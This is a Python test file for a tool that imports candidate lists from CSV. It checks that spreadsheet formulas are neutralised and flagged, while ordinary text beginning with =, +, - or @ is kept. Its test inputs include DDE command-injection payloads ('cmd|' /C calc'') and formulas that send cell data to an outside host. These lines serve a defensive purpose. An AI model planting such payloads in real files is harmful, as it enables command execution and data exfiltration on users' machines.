"""Formulas that a text file holds instead of what they come to, some of them made to be calculated elsewhere."""

from __future__ import annotations

import pytest

from seekout import Candidate, open_project
from seekout.values import cells
from tests.seekout.test_tables_of_tools import read


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1", "=A2", "=$B$2", "=B2&\" \"&C2", "=Sheet1!A2&\" \"&Sheet1!B2", "='My list'!A2",
        "=VLOOKUP(A2;Sheet2!A:B;2;0)",
        "=SVERWEIS(A2;B:C;2;FALSCH)", '=CONCATENATE(B3," ",C3)', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1)",
        "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
        "=TODAY()", "+SUM(A1:A3)", "-HYPERLINK(A1)", "=-B2", "=(A1+B1)/2", "=Tabelle1!$A$1", "=[Book1.xlsx]Sheet1!A1",
        "=IFERROR(INDEX(Data!C:C,MATCH(A2,Data!A:A,0)),\"\")", "=WEBSERVICE(\"http://x.example/?\"&A1)", "=B2",
        "= A2 & B2", "=@A2", "='[list.xlsx]Sheet 1'!$A$2", "=[@Company]", "=Table1[[#This Row],[Company]]",
    ],
)  # fmt: skip
def test_a_formula_says_nothing(formula):
    assert cells.text(formula) == cells.plain(formula) == cells.long_text(formula) == ""


@pytest.mark.parametrize(
    "text",
    [
        "=mc Group", "=E=MC2", "@Home Corp", "+Plus Lead", "- Head of Sales", "@dieve founder",
        "-VP (EMEA)", "+49 171 1234567",
        "+1 (415) 555-0101", "-1 Agency", "=)", "@CTO", "- Manager (A1 team)", "-", "@B2B Sales",
        "+A1 Security", "=Equal Labs (Berlin)",
        "==", "= Title =", "@Work(place)", "-Sales(EMEA)", "+Co(NY)", "@adabay", "=7", "=The Company=",
    ],
)  # fmt: skip
def test_what_only_begins_like_a_formula_is_text(text):
    assert cells.plain(text) == text or text in ("-", "==", "=)")


def test_a_formula_is_sent_as_nothing_and_told(tmp_path):
    path = tmp_path / "people.csv"
    path.write_text(
        "Name,First,Last,Email,Company,Title\n"
        '"=B2&"" ""&C2",Ann,Bay,ann@x.example,=VLOOKUP(D2;B:C;2;0),CTO\n'
        "Bob Cay,Bob,Cay,bob@x.example,=1+1,=mc lead\n"
        "Cy Day,Cy,Day,cy@x.example,https://x.example/?a=b,\"=\"\"CEO\"\"\"\n",
        encoding="utf-8",
    )  # fmt: skip
    with open_project(path, path.name) as reader:
        people = [row for row in reader.rows() if isinstance(row, Candidate)]
        [note] = [note for note in reader.notes if note.code == "uncalculated"]
    assert [person.full_name for person in people] == ["Ann Bay", "Bob Cay", "Cy Day"]
    assert [person.current_company for person in people[:2]] == ["", ""]
    assert [person.current_title for person in people] == ["CTO", "=mc lead", "CEO"]
    assert "Name, Company hold formulas" in note.sentence
    assert note.number == 3


@pytest.mark.parametrize("header", ["Do Not Contact", "Consent to contact", "Notes"])
def test_a_formula_that_may_refuse_still_holds_back(tmp_path, header):
    formula = '=IF(A2="x","Do not contact","")&""'
    [person] = read(tmp_path, {"Name": "Ann Bay", "Email": "ann@x.example", header: formula})
    assert person.do_not_contact
